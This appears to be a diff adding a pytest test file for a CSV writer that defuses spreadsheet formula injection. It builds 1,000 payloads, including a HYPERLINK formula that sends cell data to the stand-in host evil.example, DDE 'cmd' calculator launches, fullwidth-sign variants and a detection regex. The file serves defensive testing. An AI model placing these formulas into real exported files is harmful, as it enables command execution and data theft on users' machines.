@@ -1,0 +1,97 @@
+"""CSV that spreadsheets cannot run."""
+
+import csv
+import io
+import itertools
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from campaign.delivery import csv_writing
+from campaign.delivery.csv_writing import defuse
+
+DANGEROUS = re.compile(r"^[\s\0]*[=+\-@\t\r|%＝＋－＠]")
+
+# 25 ways in × 10 formulas × 4 ways on: what a formula can hide behind, what it does, and what follows it.
+OPENINGS = ("", " ", "  ", "\t", "\r", "\n", "\r\n", "\0", "\0 ", " \t", "\v", "\f", "\u00a0", "\u2003", "\u3000")
+OPENINGS += ("\x1c", "\x85", "\u2028", "yes;", "yes; ", "yes\t", "yes\n", "yes\r\n", "a;b\n ", '";')
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "|calc",
+)
+ENDINGS = ("", ",=1", '"', "\n=1")
+PAYLOADS = ["".join(parts) for parts in itertools.product(OPENINGS, FORMULAS, ENDINGS)]
+
+
+def written(*rows: list[str | int]) -> bytes:
+    file = io.BytesIO()
+    csv_writing.write(file, ["a", "b"], rows)
+    return file.getvalue()
+
+
+def parsed(data: bytes, delimiter: str = ",") -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
+
+
+def test_there_are_a_thousand_payloads() -> None:
+    assert len(set(PAYLOADS)) == 1000
+
+
+@pytest.mark.parametrize("column", [0, 1])
+def test_no_cell_begins_as_a_formula(column: int) -> None:
+    rows: list[list[str | int]] = [[payload, "plain"] if column == 0 else ["plain", payload] for payload in PAYLOADS]
+    found = parsed(written(*rows))
+    assert len(found) == len(PAYLOADS) + 1
+    assert not [row[column] for row in found if DANGEROUS.match(row[column])]
+
+
+def test_no_cell_begins_as_a_formula_where_spreadsheets_split_at_semicolons() -> None:
+    text = written(*[[1, payload] for payload in PAYLOADS]).decode("utf-8-sig")
+    cells = re.split(r"[;\t\r\n]", text)
+    assert not [cell for cell in cells if re.match(r"^[ \0]*[=+\-@＝＋－＠]", cell)]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Ann-Marie",
+        "O’Neill + Sons",
+        "me@work",  # in the middle it is harmless
+        "100 % agree; not a day longer",
+        "",
+        "'quoted'",
+        "१२३",
+        "李小龍",
+    ],
+)
+def test_ordinary_text_stays_as_it_is(text: str) -> None:
+    assert defuse(text) == text
+    assert parsed(written([1, text]))[1] == ["1", text]
+
+
+@given(st.text())
+def test_whatever_is_typed_comes_back_harmless_and_whole(text: str) -> None:
+    once = defuse(text)
+    assert not DANGEROUS.match(once)
+    assert once.replace("'", "") == text.replace("'", "")
+
+
+@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2))
+def test_every_text_survives_quoting(texts: list[str]) -> None:
+    assert parsed(written([*texts]))[1] == [defuse(text).replace("\0", "") for text in texts]
+
+
+def test_lines_end_as_the_standard_says_and_letters_are_marked_as_utf_8() -> None:
+    assert written([1, "Zoë"], [2, 'the "old"\nbridge']) == (
+        '\ufeffa,b\r\n1,Zoë\r\n2,"the ""old""\nbridge"\r\n'.encode()
+    )
